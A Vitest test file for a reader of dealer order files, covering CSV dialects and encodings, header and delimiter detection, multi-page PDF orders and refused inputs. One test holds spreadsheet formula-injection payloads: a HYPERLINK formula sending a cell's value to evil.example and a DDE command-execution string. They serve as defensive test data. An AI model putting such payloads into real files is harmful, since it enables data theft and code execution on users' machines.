import { describe, expect, it } from 'vitest';
import { isFormulaLike, ORDER_FILE_MAX_ROWS, type OrderFileReadResult } from '../../common/upload/order-file';
import { isColumnLabel, isNumberLike } from '../../src/upload/column-labels';
import { decodeText, detectDelimiter, firstRowIsHeader } from '../../src/upload/read-order-csv';
import { readOrderFile } from '../../src/upload/read-order-file';
import {
  brokenPdf,
  csvWithRows,
  encryptedPdf,
  formulaCsvRows,
  formulaCsvText,
  germanCsv,
  germanCsvRows,
  germanCsvText,
  imagesOnlyPdf,
  internationalCsv,
  internationalCsvRows,
  manyOrderLines,
  orderPdf,
  pdfHeader,
  sampleOrderLines,
  sampleOrderRows,
  tinyPng,
  tooLargeFile,
  utf8,
  windows1252,
  zipArchive,
} from '../support/order-files';

function table(result: OrderFileReadResult) {
  if (!result.ok) throw new Error(`expected a table, got the failure ${result.failure}`);
  return result.table;
}

function failure(result: OrderFileReadResult) {
  return result.ok ? `a table of ${result.table.rows.length} rows` : result.failure;
}

describe('a PDF order as a dealer prints it', () => {
  it('reads the two-page order as one table: header once, letterhead, footers and totals gone', async () => {
    const read = table(await readOrderFile(await orderPdf(), 'Auftrag 2026-10457.pdf'));
    expect(read.kind).toBe('pdf');
    expect(read.pages).toBe(2);
    expect(read.header).toEqual(pdfHeader);
    expect(read.rows).toEqual(sampleOrderRows());
    // Spot checks of what the generator's data says, in case both sides were wrong the same way.
    expect(read.rows[0]).toEqual([
      '1',
      '1K0 615 301 AA',
      'Bremsscheibe belüftet vorne',
      '2',
      'Stk',
      '45,90 €',
      '91,80 €',
    ]);
    expect(read.rows[3]?.slice(3, 5)).toEqual(['1,5', 'l']);
    expect(read.rows[5]).toEqual([
      '6',
      '1K0 407 366 C',
      'Gelenkwelle außen inkl. Schraubensatz',
      '1',
      'Stk',
      '1.234,56 €',
      '1.234,56 €',
    ]);
    expect(read.shape).toBe('pdf:7:pos|artikelnummer|bezeichnung|menge|einheit|einzelpreis|gesamt');
    const everyCell = read.rows.flat().join(' ');
    for (const footer of ['Seite', 'IBAN', 'Summe', 'Übertrag', 'MwSt', 'Werkstatt Schmidt', 'Auftragsbestätigung'])
      expect(everyCell).not.toContain(footer);
  });

  it('gives the same rows and the same shape however the lines fall on pages', async () => {
    const onTwoPages = table(await readOrderFile(await orderPdf(), 'a.pdf'));
    const onFourPages = table(
      await readOrderFile(await orderPdf({ linesPerPage: 4, title: 'Lieferschein 88' }), 'b.pdf'),
    );
    expect(onFourPages.pages).toBe(3);
    expect(onFourPages.rows).toEqual(onTwoPages.rows);
    expect(onFourPages.shape).toBe(onTwoPages.shape);
  });

  // The benchmark reads 2 000 lines on 45 pages and checks their count; this checks every cell.
  it('reads a long order over many pages', { timeout: 30_000 }, async () => {
    const lines = manyOrderLines(400);
    const read = table(await readOrderFile(await orderPdf({ lines, linesPerPage: 45 }), 'gross.pdf'));
    expect(read.pages).toBe(9);
    expect(read.rows).toEqual(sampleOrderRows(lines));
  });

  it('reads labels of two words as one column ("Artikel Nr."), and close labels as two', async () => {
    const header = ['Pos. Nr.', 'Artikel Nr.', 'Bezeichnung', 'Menge', 'Einheit', 'Preis EUR', 'Gesamt'];
    const read = table(await readOrderFile(await orderPdf({ header }), 'zwei-woerter.pdf'));
    expect(read.header).toEqual(header);
    expect(read.rows).toEqual(sampleOrderRows());
  });

  it('finds columns from the gaps between texts when no header row is printed', async () => {
    const lines = sampleOrderLines.map(({ descriptionMore: _, ...line }) => line);
    const read = table(await readOrderFile(await orderPdf({ lines, withHeader: false }), 'ohne-kopf.pdf'));
    expect(read.header).toBeNull();
    expect(read.shape).toBe('pdf:7:-');
    expect(read.rows).toEqual(sampleOrderRows(lines));
  });

  it('refuses an encrypted PDF, a scanned one and broken bytes, each with its own reason', async () => {
    expect(failure(await readOrderFile(encryptedPdf(), 'geschuetzt.pdf'))).toBe('encryptedPdf');
    expect(failure(await readOrderFile(await imagesOnlyPdf(), 'scan.pdf'))).toBe('imagesOnlyPdf');
    expect(failure(await readOrderFile(brokenPdf(), 'kaputt.pdf'))).toBe('unreadable');
  });
});

describe('CSV files', () => {
  it('reads the German dialect: `;`, decimal comma, Windows-1252, quoted `;` and quotes', async () => {
    const read = table(await readOrderFile(germanCsv(), 'export.csv'));
    expect(read).toEqual({
      kind: 'csv',
      header: ['Artikelnummer', 'Bezeichnung', 'Menge', 'Einzelpreis'],
      rows: germanCsvRows,
      shape: 'csv:4:artikelnummer|bezeichnung|menge|einzelpreis',
      pages: 1,
    });
  });

  it('reads the international dialect: `,`, decimal point, UTF-8 with BOM, a line break in quotes', async () => {
    const read = table(await readOrderFile(internationalCsv(), 'order.csv'));
    expect(read.header).toEqual(['Part number', 'Description', 'Qty', 'Unit price']);
    expect(read.rows).toEqual(internationalCsvRows);
    expect(read.shape).toBe('csv:4:partnumber|description|qty|unitprice');
  });

  it('decodes ä ö ü ß € alike from UTF-8 (with and without BOM) and from Windows-1252', () => {
    const text = 'Größe;Maß;Öl;Übergröße;Preis €;äöüß';
    expect(decodeText(windows1252(text))).toBe(text);
    expect(decodeText(utf8(text))).toBe(text);
    expect(decodeText(utf8(text, true))).toBe(text);
    // The bytes really differ: € is 0x80 in Windows-1252 and E2 82 AC in UTF-8.
    expect(windows1252('€')).toEqual(Uint8Array.of(0x80));
    expect(decodeText(Uint8Array.of(0x80, 0x84, 0x96))).toBe('€„–');
  });

  it('gives one shape to one layout whatever its encoding and delimiter', async () => {
    const german = table(await readOrderFile(germanCsv(), 'a.csv'));
    const asUtf8 = table(await readOrderFile(utf8(germanCsvText, true), 'b.csv'));
    const withTabs = table(
      await readOrderFile(
        utf8('Artikelnummer\tBezeichnung\tMenge\tEinzelpreis\n1K0 615 301 AA\tScheibe\t2\t45,90\n'),
        'c.txt',
      ),
    );
    expect(asUtf8.rows).toEqual(german.rows);
    expect(asUtf8.shape).toBe(german.shape);
    expect(withTabs.shape).toBe(german.shape);
    expect(withTabs.rows).toEqual([['1K0 615 301 AA', 'Scheibe', '2', '45,90']]);
  });

  it('is not confused by decimal commas in `;` files, with or without a header', () => {
    expect(detectDelimiter('1K0 615 301 AA;Scheibe;2;45,90\n03L 115 562;Filter;1;9,85\n')).toBe(';');
    expect(detectDelimiter('Teil;Menge;Preis\nA;1,5;2,5\nB;2,5;3,5\n')).toBe(';');
    expect(detectDelimiter('part,qty,price\nA,1,2.5\n"B; C",2,3.5\n')).toBe(',');
    expect(detectDelimiter('part\tqty\nA;B\t1,5\n')).toBe('\t');
  });

  it('tells a header row from a first data row', () => {
    expect(
      firstRowIsHeader([
        ['Artikel', 'Menge'],
        ['1K0 615 301 AA', '2'],
      ]),
    ).toBe(true);
    expect(firstRowIsHeader([['Art.-Nr.', 'Bez.', 'Anz']])).toBe(true);
    // Unknown labels, but a column of numbers under a text.
    expect(
      firstRowIsHeader([
        ['Teil', 'Stückzahl'],
        ['1K0 615 301 AA', '2'],
        ['03L 115 562', '1'],
      ]),
    ).toBe(true);
    // Data: a quantity in the first row.
    expect(
      firstRowIsHeader([
        ['1K0 615 301 AA', 'Bremsscheibe', '2'],
        ['03L 115 562', 'Ölfilter', '1'],
      ]),
    ).toBe(false);
    // Only text, and no column of numbers below.
    expect(
      firstRowIsHeader([
        ['1K0 615 301 AA', 'Bremsscheibe'],
        ['03L 115 562', 'Ölfilter'],
      ]),
    ).toBe(false);
    expect(isColumnLabel('OE-Nummer')).toBe(true);
    expect(isColumnLabel('Preis (EUR)')).toBe(true);
    expect(isColumnLabel('Bremsscheibe')).toBe(false);
    expect(['2', '1,5 l', '1.234,56 €', '45.90', '-3', '2 Stk'].every(isNumberLike)).toBe(true);
    expect(['1K0 615 301 AA', 'Stk', '03L 115 562'].some(isNumberLike)).toBe(false);
  });

  it('reads a file without a header row as data, numbering its columns', async () => {
    const read = table(await readOrderFile(utf8('1K0 615 301 AA;Bremsscheibe;2\n03L 115 562;Ölfilter;1\n'), 'x.csv'));
    expect(read.header).toBeNull();
    expect(read.rows).toHaveLength(2);
    expect(read.shape).toBe('csv:3:-');
  });

  it('trims cells, drops empty rows and empty trailing columns, pads short rows', async () => {
    const text = 'Teilenummer;Menge;Bemerkung;\n  1K0 615 301 AA ; 2 ;;\n;;;\n\n03L 115 562;1\n';
    const read = table(await readOrderFile(utf8(text), 'x.csv'));
    expect(read.header).toEqual(['Teilenummer', 'Menge', 'Bemerkung']);
    expect(read.rows).toEqual([
      ['1K0 615 301 AA', '2', ''],
      ['03L 115 562', '1', ''],
    ]);
  });

  it('keeps formula-like cells verbatim, as text', async () => {
    const read = table(await readOrderFile(utf8(formulaCsvText), 'boese.csv'));
    expect(read.rows).toEqual(formulaCsvRows);
    expect(read.rows.flat().filter(isFormulaLike)).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
      '+1K0 615 301',
      '@SUM(A1:A2)',
      '-3',
      "=cmd|' /C calc'!A0",
    ]);
    expect(isFormulaLike('1K0 615 301 AA')).toBe(false);
    expect(isFormulaLike('  =1+1')).toBe(true);
  });

  it('reads a CSV named .pdf as the CSV it is', async () => {
    const read = table(await readOrderFile(germanCsv(), 'auftrag.pdf'));
    expect(read.kind).toBe('csv');
    expect(read.rows).toEqual(germanCsvRows);
  });
});

describe('files that are refused', () => {
  it('refuses empty files: no bytes, only white space, only a byte order mark', async () => {
    expect(failure(await readOrderFile(new Uint8Array(), 'leer.csv'))).toBe('empty');
    expect(failure(await readOrderFile(utf8(' \r\n\t\n'), 'leer.csv'))).toBe('empty');
    expect(failure(await readOrderFile(utf8('', true), 'leer.csv'))).toBe('empty');
  });

  it('refuses files over 5 MB before looking at them, PDFs included', async () => {
    expect(failure(await readOrderFile(tooLargeFile(), 'gross.csv'))).toBe('tooLarge');
    const pdfHeaded = tooLargeFile();
    pdfHeaded.set(utf8('%PDF-1.7\n'));
    expect(failure(await readOrderFile(pdfHeaded, 'gross.pdf'))).toBe('tooLarge');
  });

  it('refuses binary files whatever their name', async () => {
    expect(failure(await readOrderFile(tinyPng(), 'bild.csv'))).toBe('notCsvOrPdf');
    expect(failure(await readOrderFile(zipArchive(), 'archiv.pdf'))).toBe('notCsvOrPdf');
    // Windows-1252 leaves 0x81 undefined: text editors do not write it.
    expect(failure(await readOrderFile(Uint8Array.of(0x41, 0x3b, 0x81, 0x0a), 'x.csv'))).toBe('notCsvOrPdf');
  });

  it(`takes ${ORDER_FILE_MAX_ROWS} lines and refuses one more`, { timeout: 30_000 }, async () => {
    expect(table(await readOrderFile(csvWithRows(ORDER_FILE_MAX_ROWS), 'x.csv')).rows).toHaveLength(
      ORDER_FILE_MAX_ROWS,
    );
    expect(failure(await readOrderFile(csvWithRows(ORDER_FILE_MAX_ROWS + 1), 'x.csv'))).toBe('tooManyRows');
  });

  it('refuses a file with a header and no lines', async () => {
    expect(failure(await readOrderFile(utf8('Artikelnummer;Menge;Preis\n;;\n'), 'x.csv'))).toBe('noRows');
  });
});
